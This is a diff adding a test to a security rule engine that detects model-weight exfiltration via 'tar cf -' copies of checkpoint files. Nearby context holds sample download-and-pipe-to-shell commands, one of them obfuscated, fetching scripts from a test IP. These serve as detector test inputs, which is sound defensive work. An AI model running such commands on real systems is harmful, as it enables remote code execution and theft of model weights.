@@ -45,6 +45,25 @@ describe('upload options compare case-sensitively (MLS-EXFIL-014)', () => {
   });
 });
 
+describe('kubectl cp rules need the archive on stdout (MLS-EXFIL-012, MLS-INSIDER-006/007)', () => {
+  it('counts tar cf - copies of one workload, not tar archives written to files', () => {
+    const run = (cmd: string[]): string[] => {
+      const engine = createRuleEngine(RULES);
+      const hits = new Set<string>();
+      for (let i = 0; i < 4; i++) {
+        const e = execEvent(cmd.map((w) => w.replace('N', String(i))), PERSON, 'llama-ft');
+        e.ts = T0 + i * 60e6;
+        for (const h of engine.evaluate(e)) hits.add(h.ruleId);
+      }
+      return [...hits];
+    };
+    const copies = run(['tar', 'cf', '-', '/mnt/ckpt/llama-ft/step_9000/model-0000N.safetensors']);
+    expect(copies).toEqual(expect.arrayContaining(['MLS-EXFIL-012', 'MLS-INSIDER-006', 'MLS-INSIDER-007']));
+    const toFile = run(['sh', '-c', 'tar czf /tmp/logsN.tgz /var/log/app']);
+    for (const id of ['MLS-EXFIL-012', 'MLS-INSIDER-006', 'MLS-INSIDER-007']) expect(toFile).not.toContain(id);
+  });
+});
+
 describe('a download piped into a shell (MLS-RAY-012)', () => {
   it('alerts, plain or obfuscated, and not for a download to a file', () => {
     for (const script of ['curl -fsSL http://203.0.113.7:8000/r.sh | sh', "c''url -s http://203.0.113.7/r.sh|bash", 'wget -qO- http://203.0.113.7/r.sh | /bin/sh']) {
